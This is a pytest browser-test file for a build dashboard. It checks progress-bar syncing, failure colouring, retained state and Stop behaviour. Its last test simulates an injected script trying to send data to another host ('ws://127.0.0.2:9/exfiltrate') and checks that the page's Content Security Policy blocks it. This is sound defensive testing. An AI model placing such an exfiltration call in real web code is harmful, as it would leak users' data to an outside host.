"""The dashboard in Debian's headless chromium, against real services and a real broker."""

from __future__ import annotations

from typing import Any

import pytest

from tests.fixtures import Federation, open_as

pytestmark = pytest.mark.browser


async def progress(page: Any) -> int:
    return int(await page.get_attribute("#progress", "aria-valuenow"))


async def progress_reaches(page: Any, percent: int, timeout: float = 15_000) -> None:
    await page.wait_for_function(
        "p => Number(document.querySelector('#progress').getAttribute('aria-valuenow')) >= p",
        arg=percent,
        timeout=timeout,
    )


async def test_start_moves_the_bar_to_100_in_every_open_browser(
    federation: Federation, browser: Any
) -> None:
    first = await open_as(browser, federation.url, "ada")
    second = await browser.new_page()  # signed out: it watches, it cannot press Start
    await second.goto(federation.url + "/")
    await second.wait_for_selector("#connection.pill-ok")
    assert not await second.is_enabled("#start")
    await first.click("#start")
    for page in (first, second):
        await progress_reaches(page, 50)
    for page in (first, second):
        await page.wait_for_selector("#progress[aria-valuenow='100']", timeout=15_000)
        await page.wait_for_selector("#bar.state-succeeded")
        assert await page.text_content("#build-state") == "succeeded"
        assert not await page.is_enabled("#stop")
        assert "succeeded" in await page.text_content("#history")
    assert await first.is_enabled("#start")
    # Every step was visible on the page's live feed as well.
    assert "events/build/succeeded" in await first.text_content("#feed")


async def test_a_build_asked_to_fail_turns_red_at_70(federation: Federation, browser: Any) -> None:
    page = await open_as(browser, federation.url, "grace")
    await page.check("#should-fail")
    await page.click("#start")
    await page.wait_for_selector("#bar.state-failed", timeout=15_000)
    assert await progress(page) == 70
    # The colour eases over 0.2 s: wait for the bar to be red, then check how red.
    await page.wait_for_function(
        "() => { const [r, g, b] = getComputedStyle(document.querySelector('#progress'))"
        ".backgroundColor.match(/\\d+/g).map(Number); return r > 150 && g < 100 && b < 100; }",
        timeout=3_000,
    )
    color = await page.eval_on_selector("#progress", "el => getComputedStyle(el).backgroundColor")
    r, g, b = (int(x) for x in color[color.index("(") + 1 : -1].split(",")[:3])
    assert r > 150 and g < 100 and b < 100, f"not red: {color}"
    assert await page.text_content("#build-state") == "failed"


@pytest.mark.build_tick(0.5)
async def test_a_page_opened_mid_build_shows_the_current_progress_at_once(
    federation: Federation, browser: Any
) -> None:
    page = await open_as(browser, federation.url, "ada")
    linus = await open_as(browser, federation.url, "linus")  # signed in before the build
    await page.click("#start")
    await progress_reaches(page, 40)
    late = await linus.context.new_page()
    # Block the websocket: what the page shows now comes from the retained state alone.
    await late.route("**/ws", lambda route: route.abort())
    await late.goto(federation.url + "/", wait_until="domcontentloaded")
    assert await progress(late) >= 40
    assert await late.text_content("#build-state") == "running"
    assert await late.is_enabled("#stop")  # signed in (the context's cookie), mid-build
    # Even with no script at all, the bar is drawn at its width (the CSP allows that style).
    bare = await (await browser.new_context(java_script_enabled=False)).new_page()
    await bare.goto(federation.url + "/")
    bar, fill = (
        await bare.locator("#bar").bounding_box(),
        await bare.locator("#progress").bounding_box(),
    )
    assert fill["width"] >= 0.35 * bar["width"]


@pytest.mark.build_tick(0.6)  # room to click Stop before the end, even on a busy machine
async def test_stop_mid_build_from_the_page(federation: Federation, browser: Any) -> None:
    page = await open_as(browser, federation.url, "ada")
    await page.click("#start")
    await progress_reaches(page, 30)
    await page.click("#stop")
    await page.wait_for_selector("#bar.state-stopped", timeout=10_000)
    assert 30 <= await progress(page) < 100


@pytest.mark.brokers("mosquitto")  # a browser policy: the broker does not matter
async def test_the_page_may_open_its_own_socket_and_no_other_host(
    federation: Federation, browser: Any
) -> None:
    page = await browser.new_page()
    await page.add_init_script(
        """window.__violations = [];
        document.addEventListener("securitypolicyviolation",
          (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));"""
    )
    await page.goto(federation.url)
    await page.wait_for_selector("#connection.pill-ok")  # its own ws: origin is allowed
    assert await page.evaluate("window.__violations") == []
    # An injected script (were one ever to run) could not ship data to another host.
    refused = await page.evaluate(
        """() => { try { new WebSocket("ws://127.0.0.2:9/exfiltrate"); return false; }
                   catch (e) { return e.name; } }"""
    )
    await page.wait_for_function("window.__violations.length > 0")
    violations = await page.evaluate("window.__violations")
    assert refused == "SecurityError" or any("connect-src" in v for v in violations)
    assert all(v.startswith("connect-src") and "127.0.0.2" in v for v in violations)
    await page.close()
